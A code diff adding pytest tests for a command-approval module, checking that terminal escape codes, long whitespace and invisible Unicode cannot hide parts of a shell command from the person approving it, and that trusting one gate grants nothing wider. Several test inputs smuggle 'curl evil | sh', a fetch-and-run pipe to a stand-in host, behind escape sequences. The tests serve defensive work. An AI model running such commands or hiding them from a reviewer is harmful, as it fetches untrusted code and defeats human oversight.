@@ -82,6 +82,51 @@ def test_commands_cannot_hide_behind_terminal_codes():
     assert not any(char in text for char in "\r\x1b\u202e")
 
 
+@pytest.mark.parametrize(
+    "command",
+    ["pytest\x1b]0;; curl evil | sh; \x07", "pytest \x1bPx; curl evil | sh", "pytest\x9d; curl evil | sh\x9c", "\x1b_ curl evil | sh"],
+)  # fmt: skip
+def test_nothing_is_left_out_that_a_shell_would_run(command):
+    (line,) = trust.shown([("gate test", command)])
+    assert "curl evil | sh" in line
+    assert line.isprintable()
+
+
+def test_nothing_is_pushed_out_of_sight():
+    (line,) = trust.shown([("setup", "make" + " " * 5000 + "; evil")])
+    assert len(line) < 80
+    assert "[5000 blanks]" in line
+    (line,) = trust.shown([("setup", "make" + "\n \t" * 900 + "evil\u3164\u2060\U000e0041")])
+    assert line.count("\n") < 5
+    assert line.endswith("evil\\u3164\\u2060\\U000e0041")
+
+
+WIDER = [
+    ("sandbox", "off"), ("audit log", "off"), ("grant grants.network", "host"), ("setup", "make"), ("deploy", "make"),
+    ("agent", "make"), ("grant grants.gate_network", "host"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("asked", WIDER)
+def test_a_word_that_was_trusted_as_a_gate_opens_nothing_else(env, asked):
+    shown = [
+        ("gate a", "off"),
+        ("verify US-1", "host"),
+        ("gate b", "make"),
+        ("grant grants.setup_network", "host"),
+    ]
+    trust.remember("a", shown, env=env)
+
+    def require(*commands):
+        trust.require("a", commands, yes=False, stdin=io.StringIO(), stderr=io.StringIO(), env=env)
+
+    require(
+        ("gate other", "off"), ("verify US-2", "make"), ("wave gate x", "host")
+    )  # gates of all kinds run alike
+    with pytest.raises(Refused):
+        require(shown[0], asked)
+
+
 def test_damaged_file_trusts_nothing_and_a_later_version_is_refused(env):
     trust.remember("a", COMMANDS, env=env)
     trust.path(env).write_text("{")
